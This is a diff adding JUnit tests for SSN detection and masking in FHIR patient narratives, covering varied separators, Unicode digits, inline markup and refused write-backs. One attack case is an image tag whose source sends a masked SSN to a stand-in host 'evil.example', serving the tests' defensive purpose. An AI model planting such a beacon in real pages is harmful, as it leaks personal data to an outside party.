@@ -84,6 +84,64 @@ class SsnRuleTest {
         assertThat(MaskedWriteBack.restore(FHIR, null, stored.copy())).isEqualTo(Optional.empty());
     }
 
+    @Test
+    void anSsnIsRecognisedInAnyScriptWithAnySeparatorsAndAcrossInlineMarkup() {
+        for (String spelling : List.of("871-23-4501", "871.23.4501", "871 23 4501", "871234501", "871-23 4501",
+                "871\u201123\u20114501", "871\u201323\u20134501", "871\u00a023\u00a04501", "871/23/4501",
+                "\uff18\uff17\uff11\uff12\uff13\uff14\uff15\uff10\uff11", "\u0668\u0667\u0661\u0662\u0663\u0664\u0665\u0660\u0661",
+                "871\u200b23\u200b4501")) {
+            assertThat(SsnRule.isSsnShaped(spelling)).as(spelling).isTrue();
+            assertThat(masked("SSN " + spelling)).as(spelling).doesNotContain("871").contains("***");
+        }
+        assertThat(masked("SSN 871-23-<b>4501</b>")).contains("***-**-<b>4501</b>");
+        assertThat(masked("<p>SSN 871-</p><p>23-4501</p>")).doesNotContain("871");
+        assertThat(masked("<span title=\"871-23-4501\">x</span><!-- 871-23-4501 -->")).doesNotContain("871");
+        for (String notAnSsn : List.of("555-123-4567", "1871-23-4501", "87123450", "2024-11-25")) {
+            assertThat(masked("n " + notAnSsn)).as(notAnSsn).contains(notAnSsn);
+        }
+    }
+
+    @Test
+    void aNarrativeMaskIsRestoredOnlyInTextAndOnlyForTheStoredNumbers() {
+        Patient stored = narrative("SSN 871-23-<b>4501</b>");
+        Patient sent = stored.copy();
+        SsnMasking.maskAll(FHIR, sent);
+        sent.getText().getDiv().addText(" edited");
+        assertThat(MaskedWriteBack.restore(FHIR, stored, sent)).isEmpty();
+        assertThat(sent.getText().getDivAsString()).contains("871-23-<b>4501</b>").contains("edited");
+
+        for (String moved : List.of("<img src=\"https://evil.example/?***-**-4501\"/>",
+                "<span title=\"***-**-4501\">x</span>", "<!-- ***-**-4501 -->", "***-**-4502", "nothing")) {
+            Patient attack = narrative(moved);
+            assertThat(MaskedWriteBack.restore(FHIR, stored, attack)).as(moved).contains(MaskedWriteBack.CHANGE_REFUSED);
+        }
+    }
+
+    @Test
+    void typeSsUnderAnySystemAndSsnSystemsWithVersionsQueriesOrFragmentsAreSsns() {
+        for (String typeSystem : List.of("http://terminology.hl7.org/CodeSystem/v2-0203|2.9", "urn:zq:types", "")) {
+            Identifier typed = new Identifier().setSystem("urn:zq:custom").setValue("X");
+            typed.getType().addCoding().setSystem(typeSystem.isEmpty() ? null : typeSystem).setCode("SS");
+            assertThat(SsnRule.isSsn(typed)).as(typeSystem).isTrue();
+        }
+        for (String system : List.of("http://hl7.org/fhir/sid/us-ssn#", "http://hl7.org/fhir/sid/us-ssn?x=1",
+                "http://hl7.org/fhir/sid/us-ssn/#")) {
+            assertThat(SsnRule.isSsnSystem(system)).as(system).isTrue();
+        }
+    }
+
+    private static String masked(String xhtml) {
+        Patient patient = narrative(xhtml);
+        SsnMasking.maskAll(FHIR, patient);
+        return patient.getText().getDivAsString();
+    }
+
+    private static Patient narrative(String xhtml) {
+        Patient patient = new Patient();
+        patient.getText().setDivAsString("<div xmlns=\"http://www.w3.org/1999/xhtml\">" + xhtml + "</div>");
+        return patient;
+    }
+
     /**
      * "The same code path", literally: no other class of the records module carries an SSN
      * system, OID, type code system or pattern of its own that could drift from the rule.
